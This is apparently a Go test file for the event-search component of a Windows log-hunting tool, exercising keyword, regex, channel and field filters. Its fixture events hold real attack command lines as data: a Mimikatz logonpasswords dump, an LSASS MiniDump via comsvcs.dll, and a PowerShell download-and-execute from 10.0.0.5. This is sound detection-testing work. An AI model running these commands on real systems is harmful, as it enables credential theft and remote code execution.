package search

import (
	"errors"
	"reflect"
	"testing"

	"github.com/loghunt/loghunt/hunt"
	"github.com/loghunt/loghunt/parsers"
)

// Events written for these tests: a Sysmon process creation, a Security
// 4688, and a PowerShell script block.
var (
	sysmon1 = &parsers.Event{
		Computer: "WS-01.corp.example.com", Channel: "Microsoft-Windows-Sysmon/Operational",
		Provider: "Microsoft-Windows-Sysmon", EventID: 1, RecordID: 7,
		Fields: []parsers.Field{
			{Name: "EventID", Value: "1"},
			{Name: "Image", Value: `C:\Users\Public\Mimikatz.exe`},
			{Name: "CommandLine", Value: `mimikatz.exe "sekurlsa::logonpasswords" exit`},
			{Name: "ParentImage", Value: `C:\Windows\System32\cmd.exe`},
			{Name: "User", Value: `CORP\jdoe`},
		},
	}
	security4688 = &parsers.Event{
		Computer: "DC-01.corp.example.com", Channel: "Security",
		Provider: "Microsoft-Windows-Security-Auditing", EventID: 4688, RecordID: 5015,
		Fields: []parsers.Field{
			{Name: "EventID", Value: "4688"},
			{Name: "NewProcessName", Value: `C:\Windows\System32\rundll32.exe`},
			{Name: "CommandLine", Value: `rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\lsass.dmp full`},
			{Name: "SubjectUserName", Value: "svc_backup"},
		},
	}
	powershell = &parsers.Event{
		Computer: "WS-02", Channel: "Microsoft-Windows-PowerShell/Operational",
		Provider: "Microsoft-Windows-PowerShell", EventID: 4104, RecordID: 99,
		Fields: []parsers.Field{
			{Name: "EventID", Value: "4104"},
			{Name: "ScriptBlockText", Value: "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')"},
			{Name: "Path", Value: ""},
		},
	}
	events = []*parsers.Event{sysmon1, security4688, powershell}
)

// hit is what Match emitted for one event.
type hit struct {
	record  uint64
	matched []hunt.Matched
}

func run(t *testing.T, opts Options) []hit {
	t.Helper()
	s, err := New(opts)
	if err != nil {
		t.Fatalf("New(%+v): %v", opts, err)
	}
	var out []hit
	for _, ev := range events {
		n := 0
		s.Match(ev, func(r *hunt.Rule, m []hunt.Matched) {
			n++
			if r != s.Rule() || r.ID != "search" || r.Engine != "search" {
				t.Errorf("emitted rule %+v, want the searcher's", r)
			}
			out = append(out, hit{ev.RecordID, m})
		})
		if n > 1 {
			t.Errorf("record %d emitted %d times", ev.RecordID, n)
		}
	}
	return out
}

func records(hs []hit) []uint64 {
	var r []uint64
	for _, h := range hs {
		r = append(r, h.record)
	}
	return r
}

func TestSearchSelects(t *testing.T) {
	for _, tt := range []struct {
		name string
		opts Options
		want []uint64 // records that match
	}{
		{"keyword ignores case by default", Options{Keywords: []string{"MIMIKATZ"}}, []uint64{7}},
		{"keyword in another case, case-sensitive", Options{Keywords: []string{"MIMIKATZ"}, CaseSensitive: true}, nil},
		{"keyword in its case, case-sensitive", Options{Keywords: []string{"Mimikatz"}, CaseSensitive: true}, []uint64{7}},
		{"keyword in the middle of a value", Options{Keywords: []string{"minidump"}}, []uint64{5015}},
		{"keyword in the computer name only", Options{Keywords: []string{"dc-01.corp"}}, []uint64{5015}},
		{"keyword in the channel", Options{Keywords: []string{"powershell/operational"}}, []uint64{99}},
		{"keyword in the provider", Options{Keywords: []string{"security-auditing"}}, []uint64{5015}},
		{"field names are not searched", Options{Keywords: []string{"ScriptBlockText"}}, nil},
		{"keyword spans no two values", Options{Keywords: []string{`cmd.exe CORP`}}, nil},
		{"all keywords must appear", Options{Keywords: []string{"corp", "lsass"}}, []uint64{5015}},
		{"all keywords, in different fields", Options{Keywords: []string{"sekurlsa", "jdoe", "public"}}, []uint64{7}},
		{"all keywords, one missing", Options{Keywords: []string{"mimikatz", "lsass"}}, nil},
		{"any keyword", Options{Keywords: []string{"mimikatz", "lsass"}, Any: true}, []uint64{7, 5015}},
		{"any keyword, none", Options{Keywords: []string{"psexec", "wmic"}, Any: true}, nil},
		{"no match", Options{Keywords: []string{"cobaltstrike"}}, nil},
		{"regex ignores case by default", Options{Regexps: []string{`net\.webclient\)\.download`}}, []uint64{99}},
		{"regex case-sensitive", Options{Regexps: []string{`net\.webclient`}, CaseSensitive: true}, nil},
		{"regex anchors to a value", Options{Regexps: []string{`^rundll32\.exe .*full$`}}, []uint64{5015}},
		{"regex anchor does not span values", Options{Regexps: []string{`^sekurlsa`}}, nil},
		{"regex alternation", Options{Regexps: []string{`\b(10\.0\.0\.\d+|lsass\.dmp)\b`}}, []uint64{5015, 99}},
		{"keyword and regex combine with AND", Options{Keywords: []string{"corp"}, Regexps: []string{`\d{3} C:`}}, []uint64{5015}},
		{"keyword and regex with Any", Options{Keywords: []string{"psexec"}, Regexps: []string{`^IEX`}, Any: true}, []uint64{99}},
		{"event id alone lists events", Options{EventIDs: []uint32{4688, 4104}}, []uint64{5015, 99}},
		{"event id restricts keywords", Options{Keywords: []string{"corp"}, EventIDs: []uint32{1}}, []uint64{7}},
		{"event id restricts Any too", Options{Keywords: []string{"mimikatz", "lsass"}, Any: true, EventIDs: []uint32{4104}}, nil},
		{"channel by name, any case", Options{Channels: []string{"security"}}, []uint64{5015}},
		{"channel by Sigma service name", Options{Channels: []string{"sysmon"}}, []uint64{7}},
		{"channel list", Options{Channels: []string{"Security", "Microsoft-Windows-PowerShell/Operational"}}, []uint64{5015, 99}},
		{"unknown channel", Options{Channels: []string{"System"}}, nil},
		{"channel and event id", Options{Channels: []string{"Security"}, EventIDs: []uint32{1}}, nil},
		{"field exact, case ignored", Options{Fields: []FieldFilter{{"SubjectUserName", "SVC_BACKUP"}}}, []uint64{5015}},
		{"field name case ignored", Options{Fields: []FieldFilter{{"subjectusername", "svc_backup"}}}, []uint64{5015}},
		{"field exact is whole value", Options{Fields: []FieldFilter{{"SubjectUserName", "svc"}}}, nil},
		{"field case-sensitive", Options{Fields: []FieldFilter{{"SubjectUserName", "SVC_BACKUP"}}, CaseSensitive: true}, nil},
		{"field wildcard suffix", Options{Fields: []FieldFilter{{"Image", `*\mimikatz.exe`}}}, []uint64{7}},
		{"field wildcard prefix and middle", Options{Fields: []FieldFilter{{"CommandLine", `rundll32*comsvcs*minidump*`}}}, []uint64{5015}},
		{"field wildcard, segments out of order", Options{Fields: []FieldFilter{{"CommandLine", `*minidump*comsvcs*`}}}, nil},
		{"field star alone needs the field", Options{Fields: []FieldFilter{{"ScriptBlockText", `*`}}}, []uint64{99}},
		{"field empty value matches an empty field", Options{Fields: []FieldFilter{{"Path", ``}}}, []uint64{99}},
		{"field absent never matches", Options{Fields: []FieldFilter{{"Path", `*`}, {"Image", "*"}}}, nil},
		{"field on a core value", Options{Fields: []FieldFilter{{"Computer", "ws-0*"}}}, []uint64{7, 99}},
		{"fields all hold", Options{Fields: []FieldFilter{{"CommandLine", "*mimikatz*"}, {"User", `corp\*`}}}, []uint64{7}},
		{"fields, one fails", Options{Fields: []FieldFilter{{"CommandLine", "*mimikatz*"}, {"User", `corp\admin`}}}, nil},
		{"same field twice must hold twice", Options{Fields: []FieldFilter{{"EventID", "4*"}, {"EventID", "*8"}}}, []uint64{5015}},
		{"everything combined", Options{Keywords: []string{"lsass"}, Regexps: []string{`comsvcs`}, EventIDs: []uint32{4688},
			Channels: []string{"security"}, Fields: []FieldFilter{{"NewProcessName", `*\rundll32.exe`}}}, []uint64{5015}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := records(run(t, tt.opts))
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("matched records %v, want %v", got, tt.want)
			}
		})
	}
}

// TestSearchMatched checks what a match says: each term found, with the
// first field (in event order, then computer, channel, provider) that holds
// it.
func TestSearchMatched(t *testing.T) {
	hs := run(t, Options{Keywords: []string{"corp", "MIMIKATZ", "absent"}, Regexps: []string{`sekurlsa::\w+`}, Any: true})
	if len(hs) != 2 {
		t.Fatalf("got %d hits, want 2 (records 7 and 5015)", len(hs))
	}
	want7 := []hunt.Matched{
		{Search: "corp", Field: "User", Value: `CORP\jdoe`},
		{Search: "MIMIKATZ", Field: "Image", Value: `C:\Users\Public\Mimikatz.exe`},
		{Search: `/sekurlsa::\w+/`, Field: "CommandLine", Value: `mimikatz.exe "sekurlsa::logonpasswords" exit`},
	}
	if !reflect.DeepEqual(hs[0].matched, want7) {
		t.Errorf("record 7 matched\n %+v\nwant\n %+v", hs[0].matched, want7)
	}
	want5015 := []hunt.Matched{{Search: "corp", Field: "Computer", Value: "DC-01.corp.example.com"}}
	if !reflect.DeepEqual(hs[1].matched, want5015) {
		t.Errorf("record 5015 matched %+v, want %+v", hs[1].matched, want5015)
	}

	// Filters alone: no terms, no Matched.
	hs = run(t, Options{EventIDs: []uint32{1}})
	if len(hs) != 1 || hs[0].matched != nil {
		t.Errorf("event-id search gave %+v, want record 7 with no Matched", hs)
	}
}

func TestSearchUnicodeCase(t *testing.T) {
	ev := &parsers.Event{RecordID: 1, Fields: []parsers.Field{{Name: "Message", Value: "Ünïcode ΣΊΣΥΦΟΣ \u212aelvin"}}}
	for _, tt := range []struct {
		kw   string
		cs   bool
		want bool
	}{
		{"ünïCODE", false, true},
		{"σίσυφοσ", false, true}, // final sigma folds with Σ
		{"kelvin", false, true},  // U+212A KELVIN SIGN folds to k
		{"KELVIN", true, false},
		{"ünïcode", true, false},
		{"Ünïcode", true, true},
	} {
		s, err := New(Options{Keywords: []string{tt.kw}, CaseSensitive: tt.cs})
		if err != nil {
			t.Fatal(err)
		}
		got := false
		s.Match(ev, func(*hunt.Rule, []hunt.Matched) { got = true })
		if got != tt.want {
			t.Errorf("keyword %q (case-sensitive %v): match %v, want %v", tt.kw, tt.cs, got, tt.want)
		}
	}
}

func TestNewErrors(t *testing.T) {
	long := make([]byte, MaxPattern+1)
	for i := range long {
		long[i] = 'a'
	}
	for _, tt := range []struct {
		name string
		opts Options
		want error
	}{
		{"nothing", Options{}, ErrNothing},
		{"only Any", Options{Any: true, CaseSensitive: true}, ErrNothing},
		{"empty keyword", Options{Keywords: []string{""}}, ErrBadPattern},
		{"long keyword", Options{Keywords: []string{string(long)}}, ErrBadPattern},
		{"long regexp", Options{Regexps: []string{string(long)}}, ErrBadPattern},
		{"bad regexp", Options{Regexps: []string{`a(b`}}, ErrBadPattern},
		{"Perl backreference is not RE2", Options{Regexps: []string{`(a)\1`}}, ErrBadPattern},
		{"field without name", Options{Fields: []FieldFilter{{"", "x"}}}, ErrBadField},
		{"long field", Options{Fields: []FieldFilter{{"Image", string(long)}}}, ErrBadField},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s, err := New(tt.opts)
			if !errors.Is(err, tt.want) || s != nil {
				t.Errorf("New = %v, %v; want nil, %v", s, err, tt.want)
			}
		})
	}
	if _, err := New(Options{Regexps: []string{string(long[:MaxPattern])}}); err != nil {
		t.Errorf("a regexp of exactly MaxPattern bytes: %v", err)
	}
}

func TestParseFieldFilter(t *testing.T) {
	for _, tt := range []struct {
		in      string
		want    FieldFilter
		wantErr bool
	}{
		{"Image=C:\\x.exe", FieldFilter{"Image", `C:\x.exe`}, false},
		{"CommandLine=a=b", FieldFilter{"CommandLine", "a=b"}, false},
		{"Path=", FieldFilter{"Path", ""}, false},
		{"Image=*", FieldFilter{"Image", "*"}, false},
		{"=x", FieldFilter{}, true},
		{"Image", FieldFilter{}, true},
		{"", FieldFilter{}, true},
	} {
		got, err := ParseFieldFilter(tt.in)
		if (err != nil) != tt.wantErr || got != tt.want {
			t.Errorf("ParseFieldFilter(%q) = %+v, %v; want %+v, error %v", tt.in, got, err, tt.want, tt.wantErr)
		}
		if err != nil && !errors.Is(err, ErrBadField) {
			t.Errorf("ParseFieldFilter(%q): error %v does not wrap ErrBadField", tt.in, err)
		}
	}
}

func TestString(t *testing.T) {
	s, err := New(Options{Keywords: []string{"a b"}, Regexps: []string{`x+`}, Any: true, EventIDs: []uint32{1, 4688},
		Channels: []string{"sysmon"}, Fields: []FieldFilter{{"Image", "*x"}}, CaseSensitive: true})
	if err != nil {
		t.Fatal(err)
	}
	want := `any of "a b", /x+/; event ID 1 or 4688; channel sysmon; field Image=*x (case-sensitive)`
	if got := s.String(); got != want {
		t.Errorf("String() = %q\nwant        %q", got, want)
	}
}
